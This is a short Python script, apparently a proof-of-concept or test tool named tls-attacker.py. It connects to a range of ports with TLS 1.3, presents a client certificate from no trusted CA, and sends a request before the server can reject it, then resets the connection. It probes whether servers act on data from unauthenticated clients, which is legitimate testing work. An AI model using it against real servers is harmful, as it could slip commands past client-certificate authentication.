"""A TLS client with a certificate of no CA: its request comes right behind its own Finished, then a reset.

usage: tls-attacker.py ADDRESS FIRST_PORT COUNT REQUEST
"""
import socket
import ssl
import struct
import sys

address, port, count, request = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
context.minimum_version = ssl.TLSVersion.TLSv1_3
context.load_cert_chain("/tmp/evil.crt", "/tmp/evil.key")
for i in range(count):
    raw = socket.create_connection((address, port + i))
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    # A client of TLS 1.3 has finished when it has sent its certificate: what the server thinks of it, it does not know yet.
    secured = context.wrap_socket(raw)
    secured.sendall(request.encode() + b"\n")
    print("sent", flush=True)
    secured.close()
